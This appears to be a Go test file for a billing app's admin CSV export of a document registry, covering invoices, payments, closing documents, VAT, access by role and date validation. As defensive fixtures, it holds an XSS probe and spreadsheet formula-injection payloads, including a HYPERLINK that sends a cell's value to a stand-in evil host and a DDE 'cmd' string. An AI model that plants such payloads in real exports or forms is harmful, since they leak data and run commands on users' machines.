package handlers_test

import (
	"cmp"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"elk/db"
	"elk/db/money"
)

// registryHeader is the registry's first row in Russian.
var registryHeader = []string{"Документ", "Номер", "Дата", "Контрагент", "Страна", "ИНН / БИН", "КПП", "Сумма, ₽",
	"Ставка НДС", "НДС", "Статус", "Счёт", "Платёжное поручение", "Основание", "Период оказания услуг"}

// registryURL is the path of the registry between two days.
func registryURL(from, to time.Time) string {
	return "/admin/documents/registry.csv?from=" + from.Format(time.DateOnly) + "&to=" + to.Format(time.DateOnly)
}

// readRegistry downloads a registry as Excel gets it and reads it back:
// the header and the rows, identifiers unwrapped from their ="…".
func readRegistry(t *testing.T, c *client, path string) (header []string, rows [][]string) {
	t.Helper()
	r := c.get(path)
	if r.Status != http.StatusOK || r.Header.Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Fatalf("%s: %d %s %.300s", path, r.Status, r.Header.Get("Content-Type"), r.Body)
	}
	body, ok := strings.CutPrefix(r.Body, "\ufeff")
	if !ok {
		t.Fatalf("%s: no BOM for Excel", path)
	}
	cr := csv.NewReader(strings.NewReader(body))
	cr.Comma = ';'
	all, err := cr.ReadAll()
	if err != nil || len(all) == 0 {
		t.Fatalf("%s: %v", path, err)
	}
	for _, row := range all[1:] {
		for i, cell := range row {
			row[i] = unwrapCode(t, cell)
		}
	}
	return all[0], all[1:]
}

// unwrapCode is an identifier as typed: the registry writes digits (with
// dashes or slashes) as the text constant ="…" so that Excel keeps them,
// and nothing else starts with a formula's sign.
func unwrapCode(t *testing.T, cell string) string {
	t.Helper()
	if inner, ok := strings.CutPrefix(cell, `="`); ok && strings.HasSuffix(inner, `"`) {
		inner = strings.TrimSuffix(inner, `"`)
		if strings.Trim(inner, "0123456789-/") != "" {
			t.Errorf("a formula in the registry: %q", cell)
		}
		return inner
	}
	if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
		t.Errorf("a cell Excel would run: %q", cell)
	}
	return cell
}

// registryRows are the registry's rows of days from..to as the store's own
// reads show each document: every company's invoices, their payments, and
// their closing documents. Each row's key is its first two cells.
func registryRows(t *testing.T, e *env, from, to time.Time) (in, out map[string][]string) {
	t.Helper()
	ctx := context.Background()
	in, out = map[string][]string{}, map[string][]string{}
	vat := func(rate int, v money.Kopecks) (string, string) {
		if rate == money.NoVAT {
			return "Без НДС", ""
		}
		return strconv.Itoa(rate) + "%", amountCell(v)
	}
	country := map[string]string{"RU": "Россия", "KZ": "Казахстан", "": "Россия"}
	day := func(d time.Time) string { return d.Format("02.01.2006") }
	add := func(date time.Time, row ...string) {
		if date.Before(from) || date.After(to) {
			out[row[0]+" "+row[1]] = row
		} else {
			in[row[0]+" "+row[1]] = row
		}
	}
	party := func(r db.Requisites) []string { return []string{r.Name, country[r.Country], r.INN, r.KPP} }
	companies, err := e.Store.ListCompanies(ctx, "")
	if err != nil {
		t.Fatal(err)
	}
	statuses := map[string]string{db.InvoiceIssued: "Выставлен", db.InvoicePartiallyPaid: "Оплачен частично",
		db.InvoicePaid: "Оплачен", db.InvoiceCancelled: "Отменён"}
	forms := map[string]string{db.FormAct: "Акт", db.FormAdvance: "Счёт-фактура на аванс"}
	bases := map[string]string{db.BasisPayment: "Оплата", db.BasisMonth: "Расходы за месяц", db.BasisBalance: "Незакрытая предоплата"}
	for _, co := range companies {
		invoices, err := e.Store.ListInvoices(ctx, db.InvoiceFilter{CompanyID: co.ID, Limit: 10_000})
		if err != nil {
			t.Fatal(err)
		}
		for _, inv := range invoices {
			rate, v := vat(inv.VATRate, inv.VAT())
			add(inv.IssuedOn, append(append([]string{"Счёт на оплату", inv.Number, day(inv.IssuedOn)}, party(inv.Buyer)...),
				amountCell(inv.Amount), rate, v, statuses[inv.Status], "", "", "", "")...)
			payments, err := e.Store.InvoicePayments(ctx, inv.ID)
			if err != nil {
				t.Fatal(err)
			}
			var before money.Kopecks
			for _, p := range payments {
				rate, v := vat(inv.VATRate, money.VATOfPart(before, p.Amount, inv.VATRate))
				add(p.PaidOn, append(append([]string{"Оплата", p.Reference, day(p.PaidOn)}, party(inv.Buyer)...),
					amountCell(p.Amount), rate, v, "", inv.Number, "", "", "")...)
				before += p.Amount
			}
		}
		docs, err := e.Store.ListDocuments(ctx, co.ID, db.DocFilter{Kind: db.DocClosing})
		if err != nil {
			t.Fatal(err)
		}
		for _, doc := range docs {
			d, err := e.Store.ClosingDocByID(ctx, doc.ID)
			if err != nil {
				t.Fatal(err)
			}
			kind := cmp.Or(forms[d.Form], fmt.Sprintf("УПД (статус %d)", d.UPDStatus))
			period := day(d.PeriodFrom)
			if !d.PeriodTo.Equal(d.PeriodFrom) {
				period += "–" + day(d.PeriodTo)
			}
			rate, v := vat(d.VATRate, d.VAT)
			add(d.IssuedOn, append(append([]string{kind, d.Number, day(d.IssuedOn)}, party(d.Buyer)...),
				amountCell(d.Amount), rate, v, "", d.InvoiceNumber, d.PaymentReference, bases[d.Basis], period)...)
		}
	}
	return in, out
}

// amountCell is money as the registry writes it: "1234,56".
func amountCell(k money.Kopecks) string { return strings.ReplaceAll(k.Plain(), ".", ",") }

// kindOrder is where a row's kind stands among a day's rows.
func kindOrder(kind string) int {
	switch kind {
	case "Счёт на оплату":
		return 0
	case "Оплата":
		return 1
	}
	return 2
}

func TestDocumentRegistryOfTheDemo(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	today := db.Today(e.Clock.Now(), db.VendorLocation)
	// The rest of an invoice paid in part comes today: its VAT is the
	// rest of the invoice's.
	ctx := context.Background()
	part, err := e.Store.ListInvoices(ctx, db.InvoiceFilter{Status: db.InvoicePartiallyPaid, Limit: 1})
	if err != nil || len(part) == 0 {
		t.Fatalf("no invoice paid in part: %v", err)
	}
	if _, err := e.Store.RecordPayment(ctx, actorOf(e, "manager"), part[0].ID,
		db.NewPayment{Amount: part[0].Due(), PaidOn: today, Reference: "7731"}); err != nil {
		t.Fatal(err)
	}
	// From the day after the demo's first invoices, which are left out
	// and their payments are in.
	from := today.AddDate(0, 0, -79)
	header, rows := readRegistry(t, e.loggedIn("admin", "admin123"), registryURL(from, today))
	if !slices.Equal(header, registryHeader) {
		t.Errorf("header %q", header)
	}
	want, other := registryRows(t, e, from, today)
	kinds := map[int]int{}
	for _, w := range want {
		kinds[kindOrder(w[0])]++
	}
	if kinds[0] == 0 || kinds[1] == 0 || kinds[2] == 0 || len(other) == 0 {
		t.Fatalf("the demo's period has %v of each kind and %d documents outside it", kinds, len(other))
	}
	seen := map[string]bool{}
	for _, row := range rows {
		key := row[0] + " " + row[1]
		switch {
		case seen[key]:
			t.Errorf("%s twice", key)
		case other[key] != nil:
			t.Errorf("%s of another period: %q", key, row)
		case want[key] == nil:
			t.Errorf("%s is no document of the period: %q", key, row)
		case !slices.Equal(row, want[key]):
			t.Errorf("%s:\n got %q\nwant %q", key, row, want[key])
		}
		seen[key] = true
	}
	for key := range want {
		if !seen[key] {
			t.Errorf("%s is missing", key)
		}
	}

	// By day, then an invoice, its payment and the documents issued on
	// it, then by number.
	for i := 1; i < len(rows); i++ {
		a, b := rows[i-1], rows[i]
		dateA, _ := time.Parse("02.01.2006", a[2])
		dateB, _ := time.Parse("02.01.2006", b[2])
		if c := cmp.Or(dateA.Compare(dateB), cmp.Compare(kindOrder(a[0]), kindOrder(b[0])), cmp.Compare(a[1], b[1])); c >= 0 {
			t.Errorf("out of order:\n%q\n%q", a, b)
		}
	}

	// A payment's VAT is the VAT of the document issued on it.
	paired := 0
	for _, row := range rows {
		if row[0] != "Оплата" {
			continue
		}
		for _, doc := range rows {
			if doc[12] != row[1] || doc[11] != row[11] {
				continue
			}
			if paired++; doc[9] != row[9] {
				t.Errorf("payment %s: VAT %s, its %s %s: %s", row[1], row[9], doc[0], doc[1], doc[9])
			}
		}
	}
	if paired == 0 {
		t.Error("no document names its payment")
	}

	rest := slices.IndexFunc(rows, func(row []string) bool { return row[0] == "Оплата" && row[1] == "7731" })
	if rest < 0 || rows[rest][9] != amountCell(part[0].DueVAT()) || rows[rest][11] != part[0].Number {
		t.Errorf("the rest of %s (VAT %s): %q", part[0].Number, part[0].DueVAT(), rows[max(rest, 0)])
	}

	// The Kazakh company is named by its БИН, without VAT.
	alma := 0
	for _, row := range rows {
		if row[3] == "ТОО «Алма Такси»" {
			alma++
			if row[4] != "Казахстан" || row[5] != "150440012344" || row[6] != "" || row[8] != "Без НДС" || row[9] != "" {
				t.Errorf("a Kazakh buyer's row: %q", row)
			}
		}
	}
	if alma == 0 {
		t.Error("no document of «Алма Такси»")
	}
}

func TestDocumentRegistryFile(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	today := db.Today(e.Clock.Now(), db.VendorLocation)
	from := today.AddDate(0, -3, 0)
	r := e.loggedIn("admin", "admin123").get(registryURL(from, today))
	name := "registry-" + from.Format(time.DateOnly) + "-" + today.Format(time.DateOnly) + ".csv"
	if r.Header.Get("Content-Disposition") != `attachment; filename="`+name+`"` || r.Header.Get("Cache-Control") != "no-store" {
		t.Errorf("headers %v", r.Header)
	}
	// Excel in a Russian locale: ";" between cells, lines ended by CRLF,
	// decimal commas; a twelve-digit БИН kept as text.
	lines := strings.Split(strings.TrimSuffix(r.Body, "\r\n"), "\r\n")
	if !strings.HasPrefix(lines[0], "\ufeffДокумент;Номер;Дата;") || len(lines) < 10 {
		t.Fatalf("%d lines, first %q", len(lines), lines[0])
	}
	for _, line := range lines {
		if strings.Contains(line, "ТОО «Алма Такси»") && !strings.Contains(line, `;"=""150440012344""";`) {
			t.Errorf("the БИН is not kept as text: %s", line)
		}
	}
	// An empty period is the header alone.
	if _, rows := readRegistry(t, e.loggedIn("admin", "admin123"), registryURL(today.AddDate(-3, 0, 0), today.AddDate(-2, 0, 0))); len(rows) != 0 {
		t.Errorf("an empty period: %q", rows)
	}
}

func TestDocumentRegistryForStaffWhoHandleMoney(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	today := db.Today(e.Clock.Now(), db.VendorLocation)
	if _, err := e.Store.CreateUser(ctx, db.Actor{}, db.NewUser{Login: "kassa", Name: "Мария Белова", Role: db.RoleAccountant,
		Password: "kassa-secret-1"}); err != nil {
		t.Fatal(err)
	}
	path := registryURL(today.AddDate(0, -1, 0), today)
	for login, password := range map[string]string{"admin": "admin123", "manager": "manager123", "kassa": "kassa-secret-1"} {
		c := e.loggedIn(login, password)
		page := c.get("/admin/invoices")
		form := page.Find("#registry form#registry-form")
		if form.AttrOr("action", "") != "/admin/documents/registry.csv" || form.AttrOr("method", "") != "get" ||
			form.AttrOr("hx-boost", "") != "false" || page.Find("#f-registry-from").AttrOr("value", "") != today.Format("2006")+"-01-01" ||
			page.Find("#f-registry-to").AttrOr("value", "") != today.Format(time.DateOnly) ||
			!strings.Contains(form.Text(), "Скачать реестр (CSV)") || page.Text("#registry h2") != "Реестр документов" {
			t.Errorf("%s: the form on «Счета»: %s", login, outerHTML(page.Find("#registry")))
		}
		if _, rows := readRegistry(t, c, path); len(rows) == 0 {
			t.Errorf("%s: an empty registry", login)
		}
	}
	// Support staff see the invoices but not the books; clients not even
	// that the back office exists.
	support := e.loggedIn("support", "support123")
	if page := support.get("/admin/invoices"); page.Status != http.StatusOK || page.Find("#registry, #registry-form").Length() != 0 {
		t.Errorf("support: %d, the form shown", page.Status)
	}
	if r := support.get(path); r.Status != http.StatusForbidden || strings.Contains(r.Body, "Контрагент") {
		t.Errorf("support: %d", r.Status)
	}
	for _, login := range []string{"taxi", "buh", "almaty"} {
		if r := e.loggedIn(login, demoPasswords[login]).get(path); r.Status != http.StatusNotFound || strings.Contains(r.Body, "Контрагент") {
			t.Errorf("%s: %d, want 404", login, r.Status)
		}
	}
	if r := e.client().get(path); r.Status != http.StatusSeeOther || !strings.HasPrefix(r.Location(), "/login") {
		t.Errorf("anonymous: %d %s", r.Status, r.Location())
	}
}

func TestDocumentRegistryRefusesABadPeriod(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	today := db.Today(e.Clock.Now(), db.VendorLocation)
	iso := func(d time.Time) string { return d.Format(time.DateOnly) }
	c := e.loggedIn("manager", "manager123")
	for _, tc := range []struct {
		from, to, field, message string
	}{
		{"", iso(today), "from", "Укажите дату."},
		{iso(today), "", "to", "Укажите дату."},
		{today.Format("02.01.2006"), iso(today), "from", "Укажите дату полностью: день, месяц и год."},
		{iso(today), fmt.Sprintf("%d-02-30", today.Year()), "to", "Укажите дату полностью: день, месяц и год."},
		{`"><script>alert(1)</script>`, iso(today), "from", "Укажите дату полностью: день, месяц и год."},
		{iso(today), iso(today.AddDate(0, 0, -1)), "to", "Конец периода раньше его начала."},
		{iso(today.AddDate(-5, 0, -1)), iso(today), "from", "Реестр — не больше чем за пять лет."},
	} {
		r := c.get("/admin/documents/registry.csv?from=" + url.QueryEscape(tc.from) + "&to=" + url.QueryEscape(tc.to))
		if r.Status != http.StatusUnprocessableEntity || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/html") ||
			r.Header.Get("Content-Disposition") != "" {
			t.Errorf("%q–%q: %d %s %s", tc.from, tc.to, r.Status, r.Header.Get("Content-Type"), r.Header.Get("Content-Disposition"))
			continue
		}
		if got := r.Text("#e-registry-" + tc.field); got != tc.message {
			t.Errorf("%q–%q: error %q, want %q", tc.from, tc.to, got, tc.message)
		}
		if r.Find("#f-registry-from").AttrOr("value", "") != tc.from || r.Find("#f-registry-to").AttrOr("value", "") != tc.to {
			t.Errorf("%q–%q: what was typed is lost: %s", tc.from, tc.to, outerHTML(r.Find("form#registry-form")))
		}
		if r.Text(".alert") == "" || r.Text("h1") != "Реестр документов" || r.Find(`.crumbs a[href="/admin/invoices"]`).Length() != 1 ||
			strings.Contains(r.Body, "<script>alert") {
			t.Errorf("%q–%q: the page: %s", tc.from, tc.to, r.Text("main"))
		}
	}
	// Five years less a day, and a period that ends ahead (the month's
	// end, before it comes), are registries.
	for _, period := range [][2]time.Time{{today.AddDate(-5, 0, 1), today}, {today, today.AddDate(0, 0, 30)}} {
		if r := c.get(registryURL(period[0], period[1])); r.Status != http.StatusOK {
			t.Errorf("%s–%s: %d", iso(period[0]), iso(period[1]), r.Status)
		}
	}
}

// A buyer's name that a spreadsheet would take for a formula is shown as
// text: the registry writes it as the other exports do.
func TestDocumentRegistryWritesNoFormula(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	today := db.Today(e.Clock.Now(), db.VendorLocation)
	sms := serviceOf(t, e, 1, db.ServiceSMS)
	names := []string{`=HYPERLINK("http://evil.example/?"&A1;"Открыть")`, "+7 (495) 000-00-00", "-2+3+cmd|' /C calc'!A0", "@SUM(1;2)",
		"ООО «Кавычки \"и\"; точка с запятой»"}
	numbers := map[string]string{}
	for _, name := range names {
		co, err := e.Store.Company(ctx, 1)
		if err != nil {
			t.Fatal(err)
		}
		co.LegalName = name
		if err := e.Store.UpdateCompany(ctx, db.Actor{}, co); err != nil {
			t.Fatal(err)
		}
		inv, err := e.Store.CreateInvoice(ctx, actorOf(e, "admin"), db.NewInvoice{Service: sms, Item: "СМС", Amount: 100_000})
		if err != nil {
			t.Fatal(err)
		}
		numbers[inv.Number] = name
	}
	_, rows := readRegistry(t, e.loggedIn("admin", "admin123"), registryURL(today, today))
	found := 0
	for _, row := range rows {
		name, ok := numbers[row[1]]
		if !ok {
			continue
		}
		found++
		want := name
		if strings.ContainsRune("=+-@", rune(name[0])) {
			want = "'" + name
		}
		if row[3] != want || row[7] != "1000,00" {
			t.Errorf("invoice %s: %q, want the name %q", row[1], row, want)
		}
	}
	if found != len(names) {
		t.Errorf("%d of %d invoices found in %q", found, len(names), rows)
	}
}

// A year of a busy vendor's documents comes as a stream, all of them, in
// order.
func TestDocumentRegistryOfABusyYear(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	today := db.Today(e.Clock.Now(), db.VendorLocation)
	from := today.AddDate(-1, 0, 1)
	sms := serviceOf(t, e, 2, db.ServiceSMS)
	const n = 1200
	admin := actorOf(e, "admin")
	for i := range n {
		day := from.AddDate(0, 0, i*300/n)
		inv, err := e.Store.CreateInvoiceOn(ctx, admin, db.NewInvoice{Service: sms, Item: "СМС", Amount: money.Kopecks(10_000 + i)}, day)
		if err != nil {
			t.Fatal(err)
		}
		at := time.Date(day.Year(), day.Month(), day.Day(), 12, 0, 0, 0, db.VendorLocation)
		if _, err := e.Store.RecordPaymentAt(ctx, admin, inv.ID, db.NewPayment{Amount: inv.Amount, PaidOn: day,
			Reference: fmt.Sprintf("%06d", i)}, at); err != nil {
			t.Fatal(err)
		}
	}
	f, l := from.Format(time.DateOnly), today.Format(time.DateOnly)
	want := e.sqlInt(`SELECT (SELECT count(*) FROM invoices WHERE issued_on BETWEEN ?1 AND ?2)
		+ (SELECT count(*) FROM payments WHERE paid_on BETWEEN ?1 AND ?2)
		+ (SELECT count(*) FROM closing_documents WHERE issued_on BETWEEN ?1 AND ?2)`, f, l)
	req, err := http.NewRequest(http.MethodGet, e.URL+registryURL(from, today), nil)
	if err != nil {
		t.Fatal(err)
	}
	res, err := e.loggedIn("admin", "admin123").http.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.ContentLength != -1 {
		t.Errorf("the registry was built whole before it was sent: %d bytes", res.ContentLength)
	}
	cr := csv.NewReader(res.Body)
	cr.Comma = ';'
	rows, last := 0, ""
	for {
		row, err := cr.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if rows > 0 {
			key := row[2][6:] + row[2][3:5] + row[2][:2]
			if key < last {
				t.Fatalf("row %d out of order: %q", rows, row)
			}
			last = key
		}
		rows++
	}
	if rows-1 != want || want < 3*n {
		t.Errorf("%d rows, want %d", rows-1, want)
	}
}
